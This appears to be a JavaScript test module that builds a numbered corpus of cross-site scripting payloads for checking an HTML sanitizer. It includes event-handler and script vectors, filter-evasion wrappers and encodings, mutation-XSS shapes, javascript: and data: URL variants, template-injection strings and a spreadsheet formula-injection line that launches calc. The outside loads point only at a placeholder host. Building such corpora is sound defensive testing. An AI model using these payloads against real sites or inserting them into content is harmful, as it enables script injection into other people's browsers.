// HTML that runs script, or asks another host for something, if it is shown as it came. RUN is the script, HOST the other host.

const b64 = (text) => Buffer.from(text).toString('base64');

/** Run by themselves, or when somebody points at or presses them. */
const vectors = [
  '<script>RUN</script>', '<script src=//HOST></script>', '<img src=x onerror=RUN>', '<svg onload=RUN>', '<svg><script>RUN</script></svg>', '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>press</text></a></svg>', '<math href="javascript:RUN">press</math>', '<iframe src="javascript:parent.RUN"></iframe>', '<iframe srcdoc="<script>parent.RUN</script>"></iframe>', '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">', '<video><source onerror=RUN></video>', '<audio src=x onerror=RUN></audio>', '<details open ontoggle=RUN>x</details>', '<input autofocus onfocus=RUN>', '<body onload=RUN>', '<a href="javascript:RUN">press</a>',
  '<form action="javascript:RUN"><button>press</button></form>', '<button formaction="javascript:RUN" form=f>press</button>', '<div onmouseover=RUN style="position:fixed;inset:0">cover</div>', '<style>@import "//HOST/x.css";</style>', '<div style="background:url(//HOST/x)">x</div>', '<link rel=stylesheet href=//HOST/x.css>',
  '<meta http-equiv=refresh content="0;url=//HOST/">', '<img src=//HOST/x.gif>', '<template shadowrootmode=open><img src=x onerror=RUN></template>', '<marquee onstart=RUN>x</marquee>', '<xss style="animation:a 1s" onanimationstart=RUN>x</xss>',
];

/** Where a text may stand, or how it may be written, so that a filter does not know it again. */
const contexts = [
  (v) => v,
  (v) => `">${v}`,
  (v) => `'>${v}`,
  (v) => `--></textarea></title></style></script></select></template>${v}`,
  (v) => `<p><b>x</p>${v}</b>`,
  (v) => `<table><tr>${v}</table>`,
  (v) => `<!-->${v}-->`,
  (v) => `<svg><style>${v}</style></svg>`,
  (v) => `<math><mtext><table><mglyph><style><!--</style>${v}</table></mtext></math>`,
  (v) => `<noscript><p title="</noscript>${v.replaceAll('"', '&quot;')}">`,
  (v) => v.replace(/<(\/?)([a-z])/gi, (_, slash, letter) => `<${slash}${letter.toUpperCase()}`).replace(/ on/g, ' oN').replace('javascript:', 'jAvAsCrIpT:'),
  (v) => v.replace(/ (?=[a-z-]+=)/g, '/').replace('javascript:', '&#x6a;ava&Tab;script&colon;'),
  (v) => v.replace(/ (?=on)/g, '\f').replace('javascript:', '\u0001javascript:'),
  (v) => v.replace(/>([^>]*)$/, '$1'),
];

/** Shapes that change when they are parsed a second time. */
const mutations = [
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form>', '<svg><p><style><g title="</style><img src=x onerror=RUN>"></style></p></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>"></svg>', '<math><mi//xlink:href="data:x,<script>RUN</script>">', '<svg><desc><![CDATA[</desc><script>RUN</script>]]></svg>', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>',
  '<svg><foreignObject><math><mi></foreignObject><img src=x onerror=RUN></svg>', '<table><td><svg><desc><table><td></desc><img src=x onerror=RUN></td></table></svg></td></table>', '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=RUN>"></a>',
  '<a><table><a></a><style><a title="</style><img src=x onerror=RUN>"></table></a>', '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>', '<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>', '<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>', '<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>',
  '<plaintext><img src=x onerror=RUN>', '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>', '<title><p title="</title><img src=x onerror=RUN>"></title>', '<listing>&lt;img src=x onerror=RUN&gt;</listing>', '<p id="&lt;img src=x onerror=RUN&gt;">x</p>', '<!--<img src="--><img src=x onerror=RUN>//">', '<![CDATA[<img src=x onerror=RUN>]]>', '<?xml <img src=x onerror=RUN>?>', '<!DOCTYPE x [<!ENTITY a "<img src=x onerror=RUN>">]>&a;',
  '<scr<script>ipt>RUN</scr</script>ipt>', '<<script>RUN//<</script>', '<img """><script>RUN</script>">', '<img src="x` `<script>RUN</script>"` `>', '<div id="x><img src=x onerror=RUN>', '<b title=\'"\' "><img src=x onerror=RUN>', '<svg/onload=RUN//', '<img src=x:x onerror=RUN', '<iframe/src="data:text/html,<svg onload=parent.RUN>">', '</p><img src=x onerror=RUN><p>', '<0 <img src=x onerror=RUN>', '<a href="x" <img src=x onerror=RUN>>y</a>',
  '<math><mstyle><mglyph><style><img src=x onerror=RUN></style></mglyph></mstyle></math>', '<svg><title><style><img src=x onerror=RUN></style></title></svg>', '<svg><use href="data:image/svg+xml;base64,B64#x"></use></svg>', '<svg><image href="data:image/svg+xml;base64,B64"></image></svg>', '<svg><set attributeName=href to="javascript:RUN"/><a><text y=9>x</text></a></svg>', '<svg><handler type="text/javascript" ev:event=load>RUN</handler></svg>',
  '<base href="//HOST/"><a href="/x">x</a>', '<meta http-equiv=refresh content="0;url=javascript:RUN">', '<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-', '<frameset onload=RUN>', '<link rel=import href="data:text/html,<script>RUN</script>">', '<link rel=preload as=script href=//HOST/p.js>', '<link rel=dns-prefetch href=//HOST>', '<a ping=//HOST/ href=#>x</a>', '<input type=image src=x onerror=RUN>', '<isindex type=image src=x onerror=RUN>', '<object data="data:text/html;base64,B64"></object>', '<embed type=image/svg+xml src="data:image/svg+xml;base64,B64">',
  '<img srcset="//HOST/x 1x">', '<picture><source srcset=//HOST/x><img></picture>', '<video poster=//HOST/x></video>', '<td background=//HOST/x>x</td>', '<table background=//HOST/x>x</table>', '<audio autoplay src=//HOST/x></audio>', '<script type=module>import "//HOST/x.js"</script>', '<script type=importmap>{"imports":{"x":"//HOST/x"}}</script>', '<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>',
];

/** Where a link may lead. */
const schemes = [
  'javascript:RUN', 'JAVASCRIPT:RUN', ' javascript:RUN', '\tjavascript:RUN', '\u0000javascript:RUN', '\u0001javascript:RUN', '\u001fjavascript:RUN', 'java\tscript:RUN', 'java\nscript:RUN', 'java\rscript:RUN', 'javascript\t:RUN', 'javascript&colon;RUN', '&#106;avascript:RUN', '&#x6A;avascript:RUN', '&#0000106avascript:RUN', 'java&Tab;script:RUN', 'java&NewLine;script:RUN', '\u00a0javascript:RUN', '\ufeffjavascript:RUN', '\u202ejavascript:RUN', 'javascript://%0aRUN', 'javascript:/*--></title>*/RUN', 'jav&#x09;ascript:RUN', 'feed:javascript:RUN', 'view-source:javascript:RUN',
  'data:text/html,<script>RUN</script>', 'data:text/html;base64,B64', 'DATA:text/html,<script>RUN</script>', 'data:image/svg+xml,<svg onload=RUN>', 'data:,RUN', 'vbscript:RUN', 'livescript:RUN', 'blob:RUN', 'filesystem:x', 'mhtml:x', 'jar:x', 'about:blank#RUN', 'http://x" onmouseover="RUN', "http://x' onmouseover='RUN",
];

/** Written so that a later step may read them back. */
const encoded = [
  '&lt;img src=x onerror=RUN&gt;', '&amp;lt;img src=x onerror=RUN&amp;gt;', '&#60;img src=x onerror=RUN&#62;', '&#x3c;img src=x onerror=RUN&#x3e;', '%3Cimg src=x onerror=RUN%3E', '%253Cimg src=x onerror=RUN%253E', '\\u003cimg src=x onerror=RUN\\u003e', '\\x3cimg src=x onerror=RUN\\x3e', '＜img src=x onerror=RUN＞', '‹img src=x onerror=RUN›', '\u202e>RUN=rorreno x=crs gmi<', '\u2066<img src=x onerror=RUN>\u2069', '<\u200bimg src=x onerror=RUN>', '<img\u00a0src=x\u00a0onerror=RUN>', '<\u0000img src=x onerror=RUN>',
  '{{constructor.constructor("RUN")()}}', '${RUN}', '#{RUN}', '<%= RUN %>', '[[RUN]]', '{{RUN}}', '{%RUN%}', '";RUN;//', "';RUN;//", '`;RUN;//', '</script><script>RUN</script>', '\u2028RUN\u2028', '"onmouseover="RUN', "'onfocus='RUN' autofocus='", '![x](javascript:RUN)', '[x](javascript:RUN)', '<javascript:RUN>', 'javascript:RUN', 'x@x<script>RUN</script>', '=cmd|" /C calc"!A0', 'a.txt"><img src=x onerror=RUN>',
];

const shapes = [...vectors.flatMap((vector) => contexts.map((context) => context(vector))), ...mutations, ...schemes.map((scheme) => `<a href="${scheme.replaceAll('"', '&quot;')}">press</a>`), ...encoded];

/** A host that nobody has. Each payload asks it under its own number. */
export const plantedHost = 'planted.invalid';

/** What a payload runs; `ran` is a function that the pages have. */
const script = (number) => (number % 5 === 0 ? `alert(${number})` : `ran(${number})`);

/** All payloads, each with its number. */
export const corpus = [...new Set(shapes)].map((shape, number) => ({
  number,
  html: shape.replaceAll('B64', b64(`<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="parent.${script(number)}"/>`)).replaceAll('parent.RUN', `parent.${script(number)}`).replaceAll('RUN', script(number)).replaceAll('HOST', `${number}.${plantedHost}`),
}));
